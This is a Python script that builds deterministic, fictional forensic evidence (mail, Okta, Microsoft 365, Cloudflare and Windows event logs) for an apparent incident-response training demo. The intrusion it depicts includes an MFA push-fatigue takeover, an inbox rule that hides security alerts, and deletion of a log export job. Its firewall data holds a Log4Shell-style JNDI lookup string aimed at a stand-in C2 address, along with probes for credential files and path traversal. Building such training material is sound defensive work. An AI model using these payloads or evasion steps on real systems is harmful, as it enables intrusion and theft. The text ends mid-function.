#!/usr/bin/env python3
"""Makes the demonstration's evidence: one attack on a company that does not exist.

    python3 demo/make_evidence.py [FOLDER]        (default: demo/evidence beside this file)

The same bytes every time: no clock, no outside data, one seeded generator for each file. Only the
standard library is used. All names and addresses are reserved for documentation (RFC 2606, 5737,
3849) or private (RFC 1918). What happens, minute by minute, stands in STORY.md.
"""

import datetime as dt
import gzip
import hashlib
import io
import json
import random
import struct
import sys
import tarfile
import uuid
import zipfile
import zlib
from pathlib import Path

UTC = dt.timezone.utc
BEGIN = dt.datetime(2026, 10, 14, 6, 0, tzinfo=UTC)
END = dt.datetime(2026, 10, 15, 18, 0, tzinfo=UTC)

# --- the company ---------------------------------------------------------------------------------

DOMAIN = "brightwater.example"
CORP = "corp." + DOMAIN
OFFICE = "192.0.2.17"
DC_IP, RESOLVER, BASTION_IP = "10.20.0.10", "10.20.0.53", "10.20.8.5"
ACCOUNT = "111122223333"
STAFF = [
    ("mhalloran", "Maeve Halloran"),
    ("posei", "Patrick Osei"),
    ("dkoch", "Dagmar Koch"),
    ("rbaptiste", "Renée Baptiste"),
    ("tnakagawa", "Taro Nakagawa"),
    ("lferrand", "Lucie Ferrand"),
    ("soyelaran", "Sade Oyelaran"),
    ("jquist", "Jonas Quist"),
    ("amarchetti", "Alba Marchetti"),
    ("hvanderberg", "Hanne Vanderberg"),
    ("cprice", "Colm Price"),
    ("eibarra", "Elisa Ibarra"),
    ("fsteiner", "Felix Steiner"),
    ("gturnbull", "Greta Turnbull"),
    ("iyusuf", "Idris Yusuf"),
    ("kmolnar", "Kata Molnar"),
    ("nfairweather", "Nell Fairweather"),
    ("oadeyemi", "Ola Adeyemi"),
    ("wrasmussen", "Wim Rasmussen"),
    ("zpetrov", "Zora Petrov"),
    ("bcullen", "Bram Cullen"),
    ("vduarte", "Vera Duarte"),
]
VICTIM = "mhalloran"
ADMIN = "posei"
PLATFORM = ("mhalloran", "posei", "dkoch", "tnakagawa", "iyusuf")
HOST = {login: (f"WS-{114 + n * 3}", f"10.20.4.{114 + n * 3}") for n, (login, _) in enumerate(STAFF)}

# --- the intruder --------------------------------------------------------------------------------

OPERATOR = "203.0.113.66"  # a consumer proxy: sign-ins and consoles
STAGING = "203.0.113.142"  # a rented server: SSH, keys, downloads
C2 = "198.51.100.77"
PHISH = "login.brightwater-okta.example"
C2_NAME = "telemetry-cdn.example"
EVIL_UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36"
WIN_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
MAC_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15"


def mail(login):
    return f"{login}@{DOMAIN}"


def full(login):
    return dict(STAFF)[login]


def at(text, plus=0.0):
    """`14 08:41:07` of October 2026, and some seconds."""
    day, clock = text.split()
    parts = [int(p) for p in clock.split(":")] + [0]
    return dt.datetime(2026, 10, int(day), parts[0], parts[1], parts[2], tzinfo=UTC) + dt.timedelta(seconds=plus)


def iso(t, digits=0):
    stem = t.strftime("%Y-%m-%dT%H:%M:%S")
    return f"{stem}.{t.microsecond:06d}"[: len(stem) + 1 + digits] + "Z" if digits else stem + "Z"


def epoch(t):
    return (t - dt.datetime(1970, 1, 1, tzinfo=UTC)).total_seconds()


def jitter(t, rng):
    return t + dt.timedelta(microseconds=rng.randrange(1_000_000))


def seeded(name):
    return random.Random("brightwater/" + name)


def ident(*parts):
    """A UUID that depends on nothing but its parts."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "|".join(map(str, parts))))


def token(length, *parts):
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:length]


def working_time(rng, day):
    """A moment of a working day: most of them between eight and five."""
    minutes = min(max(rng.gauss(12 * 60 + 20, 140), 7 * 60 + 20), 17 * 60 + 50)
    return jitter(at(f"{day} 00:00", minutes * 60), rng)


def any_time(rng):
    return BEGIN + dt.timedelta(seconds=rng.random() * (END - BEGIN).total_seconds())


class Log:
    """Events of one file, put in order at the end."""

    def __init__(self):
        self.rows = []

    def add(self, when, what):
        self.rows.append((when, len(self.rows), what))

    def sorted(self):
        return [(when, what) for when, _, what in sorted(self.rows, key=lambda r: (r[0], r[1]))]

    def lines(self):
        return "".join(json.dumps(o, ensure_ascii=False, separators=(",", ":")) + "\n" for _, o in self.sorted())


# --- mail gateway: syslog with ISO times ---------------------------------------------------------


def mail_log():
    rng, log = seeded("mail"), Log()

    def delivery(t, sender, helo, address, to, size, note="sent (250 2.0.0 Ok: queued)"):
        queue, pid = token(10, t, to).upper(), rng.randrange(800, 9000)
        def line(plus, program, text):
            when = t + dt.timedelta(seconds=plus)
            stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
            log.add(when, f"{stamp} mx-01 postfix/{program}[{pid}]: {text}")
        line(0.0, "smtpd", f"connect from {helo}[{address}]")
        line(0.2, "smtpd", f"{queue}: client={helo}[{address}]")
        line(0.4, "cleanup", f"{queue}: message-id=<{token(16, queue)}@{sender.split('@')[1]}>")
        line(0.5, "qmgr", f"{queue}: from=<{sender}>, size={size}, nrcpt=1 (queue active)")
        line(1.1, "smtp", f"{queue}: to=<{to}>, relay=mail.{CORP}[10.20.0.25]:25, delay=1.1, dsn=2.0.0, status={note}")

    partners = ["pumps.example", "valves.example.net", "freight.example.com", "copperline.example.org"]
    for day in (14, 15):
        for _ in range(22):
            domain = rng.choice(partners)
            sender = rng.choice(["orders", "invoices", "sales", "dispatch"]) + "@" + domain
            delivery(working_time(rng, day), sender, "mail." + domain, f"198.51.100.{rng.randrange(10, 60)}",
                     mail(rng.choice(STAFF)[0]), rng.randrange(4_000, 90_000))
    for n, login in enumerate(("mhalloran", "lferrand", "cprice")):
        delivery(at("14 07:52:11", n * 9.3), "no-reply@brightwater-okta.example", "out.brightwater-okta.example",
                 "198.51.100.91", mail(login), 18_411)
    text = "".join(line + "\n" for _, line in log.sorted())
    # The disk was full for a moment: one line lost its end and its line break.
    cut = text.index("postfix/qmgr", len(text) // 2)
    end = text.index("\n", cut)
    return text[: cut + 30] + text[end + 1 :]


# --- Okta System Log -----------------------------------------------------------------------------

GOOD_BEHAVIOR = "{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE, New State=NEGATIVE, New Country=NEGATIVE, Velocity=NEGATIVE, New City=NEGATIVE}"
BAD_BEHAVIOR = "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, New Country=POSITIVE, Velocity=POSITIVE, New City=POSITIVE}"


def okta_user(login):
    return {"id": "00u" + token(14, "okta", login) + "697", "type": "User", "alternateId": mail(login),
            "displayName": full(login), "detailEntry": None}


def okta_event(t, kind, message, login, ip=OFFICE, result="SUCCESS", reason=None, target=(), debug=None,
               behaviors=GOOD_BEHAVIOR, agent=WIN_UA, severity="INFO"):
    bad = ip == OPERATOR
    actor = okta_user(login)
    data = {"requestId": token(27, t, kind), "dtHash": token(64, login, ip), "requestUri": "/idp/idx/authenticators/poll",
            "url": "/idp/idx/authenticators/poll?", "behaviors": behaviors, "threatSuspected": "false"}
    data.update(debug or {})
    return {
        "actor": actor,
        "client": {
            "userAgent": {"rawUserAgent": agent, "os": "Linux" if bad else "Windows 10", "browser": "CHROME"},
            "zone": "null", "device": "Computer", "id": None, "ipAddress": ip,
            "geographicalContext": {"city": None if bad else "Cork", "state": None if bad else "Munster",
                                    "country": "Netherlands" if bad else "Ireland", "postalCode": None,
                                    "geolocation": {"lat": 52.38, "lon": 4.9} if bad else {"lat": 51.9, "lon": -8.47}},
        },
        "device": None,
        "authenticationContext": {"authenticationProvider": None, "credentialProvider": None, "credentialType": None,
                                  "issuer": None, "interface": None, "authenticationStep": 0, "rootSessionId": "idx" + token(20, login, ip, t.date()),
                                  "externalSessionId": "idx" + token(20, login, ip, t.date())},
        "displayMessage": message, "eventType": kind,
        "outcome": {"result": result, "reason": reason},
        "published": iso(t, 3),
        "securityContext": {"asNumber": 64511 if bad else 64500, "asOrg": "example hosting" if bad else "example fibre",
                            "isp": "example hosting" if bad else "example fibre", "domain": ".", "isProxy": bad},
        "severity": severity,
        "debugContext": {"debugData": data}, "legacyEventType": None,
        "transaction": {"type": "WEB", "id": token(27, t, login), "detail": {}},
        "uuid": ident("okta", t, kind, login), "version": "0",
        "request": {"ipChain": [{"ip": ip, "geographicalContext": None, "version": "V4", "source": None}]},
        "target": list(target),
    }


def okta():
    rng, log = seeded("okta"), Log()
    apps = ["Microsoft 365", "GitHub Enterprise", "AWS Single Account", "Cloudflare", "Payroll", "Wiki", "Tickets"]

    def app(name):
        return {"id": "0oa" + token(14, name) + "697", "type": "AppInstance", "alternateId": name,
                "displayName": name, "detailEntry": {"signOnModeType": "SAML_2_0"}}

    def add(t, *args, **kw):
        log.add(t, okta_event(t, *args, **kw))

    for day in (14, 15):
        for login, _ in STAFF:
            if rng.random() < 0.12:
                continue
            if day == 15 and login == VICTIM:
                continue
            t = jitter(at(f"{day} 07:30", abs(rng.gauss(40, 25)) * 60), rng)
            factor = "FIDO_WEBAUTHN" if rng.random() < 0.3 else "OKTA_VERIFY_PUSH"
            if rng.random() < 0.15:
                add(t, "user.session.start", "User login to Okta", login, result="FAILURE", reason="INVALID_CREDENTIALS")
                t += dt.timedelta(seconds=rng.randrange(9, 40))
            add(t, "user.session.start", "User login to Okta", login)
            t += dt.timedelta(seconds=rng.randrange(4, 20))
            add(t, "user.authentication.auth_via_mfa", "Authentication of user via MFA", login,
                target=[okta_user(login)], debug={"factor": factor})
            for _ in range(rng.randrange(3, 7)):
                t2 = max(t + dt.timedelta(seconds=5), working_time(rng, day))
                add(t2, "user.authentication.sso", "User single sign on to app", login,
                    target=[app(rng.choice(apps[:2] + apps[4:])), okta_user(login)],
                    debug={"requestUri": "/app/" + token(8, login) + "/sso/saml"})
    # Everyday near misses: one mistaken "no" on a push; a new phone enrolled at the usual desk.
    add(at("14 08:12:40"), "user.mfa.okta_verify.deny_push", "User rejected Okta push verify", "gturnbull",
        result="FAILURE", reason="INVALID_CREDENTIALS", target=[okta_user("gturnbull")])
    add(at("15 13:20:05"), "user.mfa.factor.activate", "Activate factor or authenticator enrollment for user", "zpetrov",
        target=[okta_user("zpetrov")], debug={"factor": "OKTA_VERIFY_PUSH"},
        behaviors=GOOD_BEHAVIOR.replace("New Device=NEGATIVE", "New Device=POSITIVE"))

    evil = {"ip": OPERATOR, "agent": EVIL_UA, "behaviors": BAD_BEHAVIOR}
    me = [okta_user(VICTIM)]
    for n in range(9):
        add(at("14 21:58:20", n * 71 + rng.random() * 20), "user.mfa.okta_verify.deny_push", "User rejected Okta push verify",
            VICTIM, result="FAILURE", reason="INVALID_CREDENTIALS", target=me, severity="WARN", **evil)
    add(at("14 22:11:02"), "user.authentication.auth_via_mfa", "Authentication of user via MFA", VICTIM, target=me,
        debug={"factor": "OKTA_VERIFY_PUSH"}, **evil)
    add(at("14 22:11:04"), "user.session.start", "User login to Okta", VICTIM, **evil)
    add(at("14 22:16:37"), "user.mfa.factor.activate", "Activate factor or authenticator enrollment for user", VICTIM,
        target=me, debug={"factor": "OKTA_VERIFY_PUSH"}, **evil)
    for clock, name in (("22:18:09", "Microsoft 365"), ("22:24:51", "Cloudflare"), ("22:38:12", "GitHub Enterprise"), ("22:49:30", "AWS Single Account")):
        add(at("14 " + clock), "user.authentication.sso", "User single sign on to app", VICTIM, target=[app(name)] + me,
            debug={"requestUri": "/app/" + token(8, name) + "/sso/saml"}, **evil)
    add(at("15 08:55:16"), "user.account.report_suspicious_activity_by_enduser", "User report suspicious activity", VICTIM,
        target=me, debug={"suspiciousActivityEventType": "user.mfa.factor.activate"}, severity="WARN")
    add(at("15 09:21:44"), "user.session.clear", "Clear user session", ADMIN, target=me)
    add(at("15 09:22:10"), "user.account.reset_password", "User reset password for Okta", ADMIN, target=me)
    return log


# --- Microsoft 365 -------------------------------------------------------------------------------


def m365():
    rng, log = seeded("m365"), Log()

    def add(t, operation, workload, record_type, login, ip=OFFICE, **more):
        log.add(t, {"CreationTime": iso(t)[:-1], "Id": ident("m365", t, login), "Operation": operation,
                    "OrganizationId": ident("tenant"), "RecordType": record_type, "ResultStatus": "Succeeded",
                    "UserKey": token(16, login).upper(), "UserType": 0, "Version": 1, "Workload": workload,
                    "ClientIP": ip, "UserId": mail(login), **more})

    files = ["Price list 2026", "Pump test results", "Q4 stock plan", "Freight contracts", "Site survey Mallow", "Holiday rota"]
    for day in (14, 15):
        for login, _ in STAFF:
            for _ in range(rng.randrange(2, 6)):
                name = rng.choice(files) + rng.choice([".xlsx", ".docx", ".pdf"])
                site = f"https://brightwater.sharepoint.example/sites/{rng.choice(['sales', 'stock', 'projects'])}/"
                add(working_time(rng, day), rng.choice(["FileAccessed", "FileAccessed", "FileModified", "FileDownloaded"]),
                    "SharePoint", 6, login, ObjectId=site + name.replace(" ", "%20"), SiteUrl=site, SourceFileName=name,
                    ItemType="File", EventSource="SharePoint", UserAgent=WIN_UA)
    t = at("14 11:32:40")
    add(t, "New-InboxRule", "Exchange", 1, "nfairweather", ObjectId=mail("nfairweather") + "\\Freight", ResultStatus="True",
        Parameters=[{"Name": "Name", "Value": "Freight"}, {"Name": "From", "Value": "dispatch@freight.example.com"},
                    {"Name": "MoveToFolder", "Value": "Freight"}])
    t = at("14 22:19:48")
    add(t, "New-InboxRule", "Exchange", 1, VICTIM, ip=OPERATOR, ObjectId=mail(VICTIM) + "\\..", ResultStatus="True",
        Parameters=[{"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "False"}, {"Name": "Name", "Value": ".."},
                    {"Name": "SubjectOrBodyContainsWords", "Value": "Okta;security;sign-in;suspicious"},
                    {"Name": "MarkAsRead", "Value": "True"}, {"Name": "MoveToFolder", "Value": "RSS Feeds"},
                    {"Name": "StopProcessingRules", "Value": "True"}])
    return log


# --- Cloudflare ----------------------------------------------------------------------------------

PROBES = ["/.env", "/.git/HEAD", "/wp-login.php", "/wp-config.php.bak", "/phpinfo.php", "/server-status", "/actuator/env",
          "/admin/.env", "/backup.zip", "/db.sql", "/config.json", "/.aws/credentials", "/.ssh/id_rsa", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/solr/admin/info/system", "/owa/auth/logon.aspx", "/cgi-bin/test.cgi", "/xmlrpc.php", "/console/login/LoginForm.jsp", "/_ignition/health-check"]


def visitor(rng):
    if rng.random() < 0.15:
        return f"2001:db8:{rng.randrange(16, 4000):x}::{rng.randrange(1, 9999):x}"
    while True:
        ip = f"{rng.choice(['198.51.100', '203.0.113'])}.{rng.randrange(2, 254)}"
        if ip not in (OPERATOR, STAGING, C2):
            return ip


def cloudflare_http():
    rng, log = seeded("cf-http"), Log()

    def add(t, ip, method, host, uri, status, agent=WIN_UA, size=None, kind="text/html", attack=88, action=""):
        path = uri.split("?")[0]
        log.add(t, {
            "CacheCacheStatus": "dynamic", "ClientASN": 64511 if ip in (OPERATOR, STAGING) else 64500 + len(ip) % 7,
            "ClientCountry": "nl" if ip == OPERATOR else "ie", "ClientDeviceType": "desktop", "ClientIP": ip,
            "ClientIPClass": "noRecord", "ClientRequestBytes": 900 + len(uri), "ClientRequestHost": host,
            "ClientRequestMethod": method, "ClientRequestPath": path, "ClientRequestProtocol": "HTTP/2",
            "ClientRequestReferer": "", "ClientRequestScheme": "https", "ClientRequestSource": "eyeball",
            "ClientRequestURI": uri, "ClientRequestUserAgent": agent, "ClientSSLCipher": "AEAD-AES128-GCM-SHA256",
            "ClientSSLProtocol": "TLSv1.3", "ClientSrcPort": 20000 + rng.randrange(40000), "EdgeColoCode": "AMS" if ip == OPERATOR else "DUB",
            "EdgeEndTimestamp": iso(t + dt.timedelta(milliseconds=80)), "EdgeResponseBytes": size if size is not None else rng.randrange(900, 60_000),
            "EdgeResponseContentType": kind, "EdgeResponseStatus": status, "EdgeStartTimestamp": iso(t),
            "LeakedCredentialCheckResult": "none", "OriginResponseStatus": 0 if action else status,
            "RayID": token(16, "ray", t, uri), "SecurityAction": action, "SecurityRuleID": "", "WAFAttackScore": attack,
            "ZoneName": DOMAIN})

    pages = ["/", "/products", "/products/pumps", "/products/valves?size=22", "/cart", "/contact", "/api/v1/stock?sku=BW-2210",
             "/account/orders", "/assets/site.css", "/assets/app.js"]
    for _ in range(430):
        add(any_time(rng), visitor(rng), "GET", rng.choice(["www.", "portal."]) + DOMAIN, rng.choice(pages),
            rng.choices([200, 304, 404, 301], [90, 6, 2, 2])[0], rng.choice([WIN_UA, MAC_UA]))
    for day in (14, 15):
        for _ in range(45):
            add(working_time(rng, day), OFFICE, rng.choice(["GET", "GET", "POST"]), "admin." + DOMAIN,
                rng.choice(["/admin/orders", "/admin/stock", "/admin/customers?page=2", "/admin/reports/daily"]), 200)
    # The first look, at night: an enumeration of paths with a template scanner.
    words = [a + "/" + b for a in ("/api", "/old", "/app", "/static", "/internal") for b in
             ("config", "backup", "users", "export", "debug", "test", "status", "keys", "env", "logs", "tmp", "data")]
    for n, path in enumerate(words):
        add(at("14 06:31:05", n * 4.2 + rng.random()), OPERATOR, "GET", "portal." + DOMAIN, path, 404,
            "Mozilla/5.0 (compatible; Nuclei - Open-source project)", 548, attack=35)
    add(at("14 06:36:12"), OPERATOR, "GET", "docs." + DOMAIN, "/.git/config", 200,
        "Mozilla/5.0 (compatible; Nuclei - Open-source project)", 412, "application/octet-stream", 30)
    # In the evening, with a session of Maeve's, the shop's back office.
    for n, uri in enumerate(["/admin/", "/admin/orders", "/admin/customers?export=csv", "/admin/customers?export=csv&page=2", "/admin/settings/integrations"]):
        add(at("14 22:26:30", n * 41), OPERATOR, "GET", "admin." + DOMAIN, uri, 200, EVIL_UA, 24_000 + n * 180_000, "text/csv" if "csv" in uri else "text/html")
    return log


def cloudflare_firewall():
    rng, log = seeded("cf-fw"), Log()

    def add(t, ip, host, path, action, source, agent=WIN_UA, query=""):
        log.add(t, {
            "Action": action, "ClientASN": 64511, "ClientASNDescription": "EXAMPLE-HOSTING", "ClientCountry": "nl",
            "ClientIP": ip, "ClientIPClass": "noRecord", "ClientRefererHost": "", "ClientRefererPath": "", "ClientRefererQuery": "",
            "ClientRefererScheme": "", "ClientRequestHost": host, "ClientRequestMethod": "GET", "ClientRequestPath": path,
            "ClientRequestProtocol": "HTTP/2", "ClientRequestQuery": query, "ClientRequestScheme": "https",
            "ClientRequestUserAgent": agent, "Datetime": iso(t), "EdgeColoCode": "AMS", "EdgeResponseStatus": 403,
            "Kind": "firewall", "MatchIndex": 0, "Metadata": {"type": "customer"}, "OriginResponseStatus": 0,
            "OriginatorRayID": "00", "RayID": token(16, "ray", t, path), "RuleID": token(32, source), "Source": source})

    for _ in range(46):
        add(any_time(rng), visitor(rng), "www." + DOMAIN, rng.choice(PROBES[:8]), rng.choice(["block", "managed_challenge"]),
            rng.choice(["firewallManaged", "firewallCustom", "botFight"]))
    for n in range(132):
        path = PROBES[n % len(PROBES)]
        add(at("14 06:31:00", n * 2.3 + rng.random()), OPERATOR, rng.choice(["www.", "portal.", "docs."]) + DOMAIN, path, "block", "firewallManaged",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            "?x=${jndi:ldap://198.51.100.77/a}" if n % 33 == 5 else "")
    for n, path in enumerate(["/admin/../../etc/passwd", "/admin/login.php", "/admin/.env", "/admin/config.php", "/admin/backup.sql", "/admin/server-status"]):
        add(at("14 22:25:04", n * 6), OPERATOR, "admin." + DOMAIN, path, "block", "firewallManaged", EVIL_UA)
    text = log.lines().splitlines(keepends=True)
    # The last push of a batch was cut off in the middle of an object.
    half = len(text) * 2 // 3
    text[half] = text[half][:211] + "\n"
    return "".join(text)


def cloudflare_audit():
    log = Log()

    def add(t, login, ip, kind, method, uri, product, resource, what, request=None):
        log.add(t, {
            "id": ident("cf-audit", t), "account": {"id": token(32, "account"), "name": "Brightwater Supply"},
            "action": {"description": what, "result": "success", "time": iso(t), "type": kind},
            "actor": {"id": token(32, login), "context": "dash", "email": mail(login), "ip_address": ip, "type": "user"},
            "raw": {"cf_ray_id": token(16, t), "method": method, "status_code": 200, "uri": uri.replace("ACCOUNT", token(32, "account")).replace("ZONE", token(32, "zone")),
                    "user_agent": EVIL_UA if ip == OPERATOR else WIN_UA},
            "resource": {"id": token(32, t, uri), "product": product, "scope": "zones" if "/zones/" in uri else "accounts",
                         "type": resource, "request": request or {}, "response": {"success": True}},
            "zone": {"id": token(32, "zone"), "name": DOMAIN}})

    for t, login, name in ((at("14 09:44:10"), "dkoch", "stock"), (at("14 15:02:33"), "tnakagawa", "beta"), (at("15 10:11:52"), "dkoch", "beta")):
        add(t, login, OFFICE, "update", "PATCH", f"/client/v4/zones/ZONE/dns_records/{token(32, name)}", "dns", "dns_records", "Update DNS record", {"name": f"{name}.{DOMAIN}", "type": "CNAME"})
    add(at("14 10:30:21"), "dkoch", OFFICE, "create", "POST", "/client/v4/zones/ZONE/purge_cache", "cache", "purge_cache", "Purge cache")
    add(at("14 22:31:18"), VICTIM, OPERATOR, "delete", "DELETE", "/client/v4/accounts/ACCOUNT/logpush/jobs/148213", "logpush", "jobs", "Delete Logpush job")
    add(at("14 22:34:40"), VICTIM, OPERATOR, "create", "POST", "/client/v4/user/tokens", "user", "tokens", "Create API token", {"name": "terraform-ci"})
    return json.dumps({"success": True, "errors": [], "messages": [], "result": [o for _, o in log.sorted()],
                       "result_info": {"count": str(len(log.rows)), "cursor": ""}}, indent=1) + "\n"


# --- Windows event logs, written from scratch ----------------------------------------------------
#
# The binary XML of EVTX, as much as a true log needs: chunks of 64 KiB, one template for each shape of
# event, typed values. Names are written where they stand; offsets count from the chunk's beginning.

STRING, BYTE, WORD, DWORD, QWORD, GUID, FILETIME, SID, HEX32, HEX64 = 0x01, 0x04, 0x06, 0x08, 0x0A, 0x0F, 0x11, 0x13, 0x14, 0x15


def filetime(t):
    return int((t - dt.datetime(1601, 1, 1, tzinfo=UTC)) / dt.timedelta(microseconds=1)) * 10


def pack_value(kind, value):
    if kind == STRING:
        return value.encode("utf-16-le")
    if kind == GUID:
        return uuid.UUID(value).bytes_le
    if kind == FILETIME:
        return struct.pack("<Q", filetime(value))
    if kind == SID:
        parts = [int(p) for p in value.split("-")[1:]]
        return struct.pack("<BB", parts[0], len(parts) - 2) + parts[1].to_bytes(6, "big") + b"".join(struct.pack("<I", p) for p in parts[2:])
    return value.to_bytes({BYTE: 1, WORD: 2, DWORD: 4, HEX32: 4, QWORD: 8, HEX64: 8}[kind], "little")


def guess(value):
    """The type of one field's value, as the providers declare them."""
    if isinstance(value, tuple):
        return value
    if isinstance(value, bool):
        return STRING, "true" if value else "false"
    if isinstance(value, int):
        return DWORD, value
    return STRING, value


class Bin:
    """Bytes of a chunk in the making, aware of their offset in it."""

    def __init__(self, base):
        self.base, self.out = base, bytearray()

    def here(self):
        return self.base + len(self.out)

    def put(self, form, *values):
        self.out += struct.pack("<" + form, *values)

    def name(self, text):
        offset = self.here() + 4
        hashed = 0
        for unit in struct.unpack(f"<{len(text)}H", text.encode("utf-16-le")):
            hashed = (hashed * 65599 + unit) & 0xFFFFFFFF
        self.put("I", offset)
        self.put("IHH", 0, hashed & 0xFFFF, len(text))
        self.out += text.encode("utf-16-le") + b"\0\0"

    def element(self, tag, attributes, content):
        """`attributes`: name → text or (index, type); `content`: None, text, (index, type) or a list of elements."""
        self.put("B", 0x41 if attributes else 0x01)
        self.put("H", 0xFFFF)
        size_at = len(self.out)
        self.put("I", 0)
        self.name(tag)
        if attributes:
            list_at = len(self.out)
            self.put("I", 0)
            for n, (key, value) in enumerate(attributes.items()):
                self.put("B", 0x46 if n + 1 < len(attributes) else 0x06)
                self.name(key)
                self.value(value)
            struct.pack_into("<I", self.out, list_at, len(self.out) - list_at - 4)
        if content is None:
            self.put("B", 0x03)
        else:
            self.put("B", 0x02)
            if isinstance(content, list):
                for child in content:
                    self.element(*child)
            else:
                self.value(content)
            self.put("B", 0x04)
        struct.pack_into("<I", self.out, size_at, len(self.out) - size_at - 4)

    def value(self, value):
        if isinstance(value, tuple):
            self.put("BHB", 0x0E, *value)
        else:
            self.put("BBH", 0x05, STRING, len(value))
            self.out += value.encode("utf-16-le")


SYSTEM = [("EventID", WORD), ("Version", BYTE), ("Level", BYTE), ("Task", WORD), ("Opcode", BYTE), ("Keywords", HEX64),
          ("TimeCreated", FILETIME), ("EventRecordID", QWORD), ("ActivityID", GUID), ("ProcessID", DWORD), ("ThreadID", DWORD),
          ("Channel", STRING), ("Computer", STRING), ("UserID", SID)]


def template(binary, provider, guid, fields, space=None):
    """The XML of an event with holes where its values go. `space`: UserData's element and its namespace."""
    hole = {name: (n, kind) for n, (name, kind) in enumerate(SYSTEM)}
    data = [(name, (len(SYSTEM) + n, kind)) for n, (name, kind) in enumerate(fields)]
    system = [("Provider", {"Name": provider, "Guid": "{" + guid + "}"}, None)]
    for name in ("EventID", "Version", "Level", "Task", "Opcode", "Keywords"):
        system.append((name, {}, hole[name]))
    system += [
        ("TimeCreated", {"SystemTime": hole["TimeCreated"]}, None), ("EventRecordID", {}, hole["EventRecordID"]),
        ("Correlation", {"ActivityID": hole["ActivityID"]}, None),
        ("Execution", {"ProcessID": hole["ProcessID"], "ThreadID": hole["ThreadID"]}, None),
        ("Channel", {}, hole["Channel"]), ("Computer", {}, hole["Computer"]), ("Security", {"UserID": hole["UserID"]}, None)]
    if space:
        body = ("UserData", {}, [(space[0], {"xmlns": space[1]}, [(name, {}, value) for name, value in data])])
    else:
        body = ("EventData", {}, [("Data", {"Name": name}, value) for name, value in data])
    binary.element("Event", {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}, [("System", {}, system), body])


class Evtx:
    """One event log: `add` events, then `bytes`."""

    def __init__(self, channel, provider, guid, computer, first_record=1):
        self.channel, self.provider, self.guid, self.computer = channel, provider, guid, computer
        self.first, self.rows = first_record, Log()

    def add(self, t, event_id, data, user="S-1-5-18", level=4, task=0, version=0, keywords=0x8000000000000000, pid=3120, tid=4244,
            space=None, provider=None, opcode=0):
        fields = [(name, *guess(value)) for name, value in data.items()]
        self.rows.add(t, (event_id, fields, user, level, task, version, keywords, pid, tid, space, provider or (self.provider, self.guid), opcode))

    def record(self, number, t, row, base, templates):
        event_id, fields, user, level, task, version, keywords, pid, tid, space, provider, opcode = row
        shape = (provider, event_id, tuple((n, k) for n, k, _ in fields), space)
        binary = Bin(base + 24)
        binary.put("BBBB", 0x0F, 1, 1, 0)
        binary.put("BB", 0x0C, 1)
        known = templates.get(shape)
        key = uuid.uuid5(uuid.NAMESPACE_URL, repr(shape))
        binary.put("I", key.int & 0xFFFFFFFF)
        if known is None:
            templates[shape] = binary.here() + 4
            binary.put("I", templates[shape])
            binary.put("I", 0)
            binary.out += key.bytes_le[:16]
            size_at = len(binary.out)
            binary.put("I", 0)
            binary.put("BBBB", 0x0F, 1, 1, 0)
            template(binary, provider[0], provider[1], [(n, k) for n, k, _ in fields], space)
            binary.put("B", 0)
            struct.pack_into("<I", binary.out, size_at, len(binary.out) - size_at - 4)
        else:
            binary.put("I", known)
        values = [event_id, version, level, task, opcode, keywords, t, number, None, pid, tid, self.channel, self.computer, user]
        pairs = [(k, v) for (_, k), v in zip(SYSTEM, values)] + [(k, v) for _, k, v in fields]
        packed = [(0, b"") if v is None else (k, pack_value(k, v)) for k, v in pairs]
        binary.put("I", len(packed))
        for kind, content in packed:
            binary.put("HBB", len(content), kind, 0)
        for _, content in packed:
            binary.out += content
        binary.put("B", 0)
        while (len(binary.out) + 28) % 8:
            binary.put("B", 0)
        size = len(binary.out) + 28
        return b"**\0\0" + struct.pack("<IQQ", size, number, filetime(t)) + bytes(binary.out) + struct.pack("<I", size)

    def bytes(self):
        chunks, body, templates, numbers = [], bytearray(), {}, []
        for n, (t, row) in enumerate(self.rows.sorted()):
            number = self.first + n
            record = self.record(number, t, row, 512 + len(body), templates)
            if 512 + len(body) + len(record) > 65_536:
                chunks.append((bytes(body), numbers, last))
                body, templates, numbers = bytearray(), {}, []
                record = self.record(number, t, row, 512, templates)
            last = 512 + len(body)
            body += record
            numbers.append(number)
        chunks.append((bytes(body), numbers, last))
        out = bytearray()
        for body, numbers, last in chunks:
            lo, hi = numbers[0], numbers[-1]
            head = bytearray(512)
            struct.pack_into("<8sQQQQIIII", head, 0, b"ElfChnk\0", lo, hi, lo, hi, 128, last, 512 + len(body), zlib.crc32(body))
            struct.pack_into("<I", head, 124, zlib.crc32(bytes(head[:120]) + bytes(head[128:])))
            out += bytes(head) + body + bytes(65_536 - 512 - len(body))
        head = bytearray(4096)
        struct.pack_into("<8sQQQIHHHH", head, 0, b"ElfFile\0", 0, len(chunks) - 1, self.first + len(self.rows.rows), 128, 1, 3, 4096, len(chunks))
        struct.pack_into("<I", head, 124, zlib.crc32(bytes(head[:120])))
        return bytes(head) + bytes(out)


DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"


def sid(login):
    return f"{DOMAIN_SID}-{1100 + [l for l, _ in STAFF].index(login)}" if login in dict(STAFF) else f"{DOMAIN_SID}-1901"


def logon(host, login, kind, ip, failed=None):
    """The fields of Security 4624, or of 4625 with its status."""
    fields = {
        "SubjectUserSid": (SID, "S-1-5-18"), "SubjectUserName": host + "$", "SubjectDomainName": "BRIGHTWATER", "SubjectLogonId": (HEX64, 0x3E7),
        "TargetUserSid": (SID, sid(login)), "TargetUserName": login, "TargetDomainName": "BRIGHTWATER"}
    if failed:
